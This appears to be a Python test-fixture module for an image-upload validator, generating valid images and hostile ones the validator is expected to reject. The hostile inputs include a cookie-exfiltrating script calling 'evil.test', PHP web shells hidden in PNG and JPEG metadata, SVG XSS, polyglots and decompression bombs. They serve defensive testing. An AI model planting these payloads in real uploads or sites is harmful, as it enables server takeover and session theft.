"""Pictures, honest and otherwise."""

import io
import struct
import zlib
from functools import cache, partial
from typing import Any

from PIL import Image

from tests.hostile import archives
from tests.hostile.case import Case

SCRIPT = b"<script>fetch('//evil.test/'+document.cookie)</script>"


@cache
def picture(kind: str, mode: str = "RGB", size: tuple[int, int] = (320, 200)) -> bytes:
    return saved(_gradient(mode, size), kind)


def _gradient(mode: str, size: tuple[int, int]) -> Image.Image:
    return Image.linear_gradient("L").resize(size).convert(mode)


def saved(image: Image.Image, kind: str, **options: Any) -> bytes:
    target = io.BytesIO()
    image.save(target, kind, **options)
    return target.getvalue()


def moving(kind: str) -> bytes:
    frames = [Image.new("RGB", (64, 64), (n * 20, 80, 200)) for n in range(8)]
    return saved(frames[0], kind, save_all=True, append_images=frames[1:], duration=100)


def transparent() -> bytes:
    image = _gradient("RGB", (300, 200))
    image.putalpha(99)
    return saved(image, "PNG")


def located() -> bytes:
    """A photograph that says where it was taken, and which way is up."""
    image = _gradient("RGB", (300, 200))
    exif = image.getexif()
    exif[0x0112] = 6
    exif.get_ifd(0x8825)[1] = "N"
    return saved(image, "JPEG", exif=exif)


def chunk(kind: bytes, content: bytes) -> bytes:
    crc = zlib.crc32(kind + content)
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", crc)


def png_of(width: int, height: int, *chunks: bytes, data: bytes = b"") -> bytes:
    header = struct.pack(">2I5B", width, height, 8, 2, 0, 0, 0)
    packed = chunk(b"IDAT", zlib.compress(data))
    parts = (chunk(b"IHDR", header), *chunks, packed, chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def _cut(kind: str, percent: int) -> bytes:
    return picture(kind)[: len(picture(kind)) * percent // 100]


def _tailed(kind: str, tail: bytes) -> bytes:
    return picture(kind) + tail


def _with_chunk(kind: bytes, content: bytes) -> bytes:
    whole = picture("PNG")
    return whole[:33] + chunk(kind, content) + whole[33:]


def _with_segment(content: bytes) -> bytes:
    whole = picture("JPEG")
    return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(content) + 2) + content + whole[2:]


def _gif_of(width: int, height: int) -> bytes:
    whole = bytearray(picture("GIF", "P"))
    whole[6:10] = struct.pack("<2H", width, height)
    return bytes(whole)


def _multiple() -> bytes:
    return saved(_gradient("RGB", (300, 200)), "MPO", save_all=True,
                 append_images=[_gradient("RGB", (150, 100))])  # fmt: skip


HONEST = [
    Case("a PNG", "图.png", lambda: picture("PNG"), declared="image/png"),
    Case("a PNG with transparency", "a.png", transparent),
    Case("a PNG of sixteen bits", "a.png", lambda: picture("PNG", "I;16")),
    Case("a PNG with a palette", "a.png", lambda: picture("PNG", "P")),
    Case("a moving PNG", "a.png", lambda: moving("PNG")),
    Case("a JPEG", "a.jpg", lambda: picture("JPEG"), declared="image/jpeg"),
    Case("a JPEG for print", "a.jpeg", lambda: picture("JPEG", "CMYK")),
    Case("a progressive JPEG", "a.jpg", lambda: saved(_gradient("RGB", (200, 90)), "JPEG", progressive=True)),
    Case("a photograph with its place", "DSC_0001.JPG", located),
    Case("a photograph with a second picture", "a.jpg", _multiple),
    Case("a GIF", "a.gif", lambda: picture("GIF", "P"), declared="image/gif"),
    Case("a moving GIF", "a.gif", lambda: moving("GIF")),
    Case("a WebP", "a.webp", lambda: picture("WEBP")),
    Case("a moving WebP", "a.webp", lambda: moving("WEBP")),
]  # fmt: skip

_TRUNCATED = [
    Case(f"a {kind} cut to {share} %", f"a.{name}", partial(_cut, kind, share), "damaged")
    for kind, name in (("PNG", "png"), ("JPEG", "jpg"), ("GIF", "gif"), ("WEBP", "webp"))
    for share in (50, 98)
]  # fmt: skip

_TAILED = [
    Case(f"a {kind} with {what} behind", f"a.{name}", partial(_tailed, kind, tail), code)
    for kind, name in (("PNG", "png"), ("JPEG", "jpg"), ("GIF", "gif"), ("WEBP", "webp"))
    for what, tail, code in (
        ("a ZIP", archives.zipped({"a.js": b"x"}), "polyglot"),
        ("a program", b"MZ" + b"\x90" * 300, "hidden-data"),
        ("a page", b"<html>" + SCRIPT, "polyglot"),
    )
]  # fmt: skip

_LYING = [
    Case(f"{what} named {name}", f"a.{name}", partial(bytes, content), "type-not-accepted")
    for name in ("png", "jpg", "gif")
    for what, content in (
        ("a page", b"<!DOCTYPE html><title>x</title>" + SCRIPT),
        ("an SVG", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("a program", b"MZ\x90\0\3\0\0\0" + b"\0" * 200),
        ("PHP", b"<?php system($_GET['c']); ?>"),
    )
]  # fmt: skip

HOSTILE = [
    *_TRUNCATED,
    *_TAILED,
    *_LYING,
    Case("a script in a GIF's comment", "a.gif", lambda: picture("GIF", "P")[:-1] + b"\x21\xfe\x36" + SCRIPT + b"\0;", "polyglot"),
    Case("a GIF that is a script", "a.gif", lambda: b"GIF89a=1;alert(1)//" + b"\0" * 40, "too-many-pixels"),
    Case("a script in a PNG's text", "a.png", lambda: _with_chunk(b"tEXt", b"Comment\0" + SCRIPT), "polyglot"),
    Case("PHP in a PNG's text", "a.png", lambda: _with_chunk(b"tEXt", b"Comment\0<?php eval($_POST[1]);?>"), "polyglot"),
    Case("a script in a JPEG's comment", "a.jpg", lambda: _with_segment(SCRIPT), "polyglot"),
    Case("PHP in a JPEG's comment", "a.jpg", lambda: _with_segment(b"<?php eval($_POST[1]);?>"), "polyglot"),
    Case("a PDF's header in a JPEG", "a.jpg", lambda: _with_segment(b"%PDF-1.4 1 0 obj"), "polyglot"),
    Case("a PDF's header in a PNG", "a.png", lambda: _with_chunk(b"tEXt", b"a\0%PDF-1.7"), "polyglot"),
    Case("a PNG of 65500 squared", "a.png", lambda: png_of(65500, 65500), "too-many-pixels"),
    Case("a PNG of 2^31 columns", "a.png", lambda: png_of(0x7FFFFFFF, 1), "too-many-pixels"),
    Case("a PNG without its pixels", "a.png", lambda: png_of(6000, 6000), "damaged"),
    Case("a PNG whose profile inflates", "a.png", lambda: _with_chunk(b"iCCP", b"p\0\0" + zlib.compress(b"\0" * (64 << 20))), "bomb"),
    Case("a PNG whose text inflates", "a.png", lambda: _with_chunk(b"zTXt", b"p\0\0" + zlib.compress(b"\0" * (64 << 20))), "bomb"),
    Case("a PNG with a wrong CRC", "a.png", lambda: picture("PNG").replace(b"IDAT", b"IDAT\1", 1), "damaged"),
    Case("a PNG without an end", "a.png", lambda: picture("PNG")[:-12], "damaged"),
    Case("a PNG of ten thousand frames", "a.png", lambda: _with_chunk(b"acTL", struct.pack(">2I", 10_000, 0)), "too-many"),
    Case("a GIF of 65535 squared", "a.gif", lambda: _gif_of(65535, 65535), "too-many-pixels"),
    Case("a JPEG of 65500 squared", "a.jpg", lambda: _jpeg_of(65500, 65500), "too-many-pixels"),
    Case("a PNG named JPEG", "a.jpg", lambda: picture("PNG"), "name-mismatch"),
    Case("a JPEG declared PNG", "a.jpg", lambda: picture("JPEG"), "type-mismatch", "image/png"),
    Case("an SVG", "a.svg", lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', "type-not-accepted"),
    Case("a BMP", "a.png", lambda: picture("BMP"), "type-not-accepted"),
    Case("a TIFF", "a.png", lambda: picture("TIFF"), "type-not-accepted"),
    Case("an icon", "a.png", lambda: picture("ICO"), "type-not-accepted"),
]  # fmt: skip


def _jpeg_of(width: int, height: int) -> bytes:
    whole = bytearray(picture("JPEG"))
    at = whole.index(b"\xff\xc0") + 5
    whole[at : at + 4] = struct.pack(">2H", height, width)
    return bytes(whole)
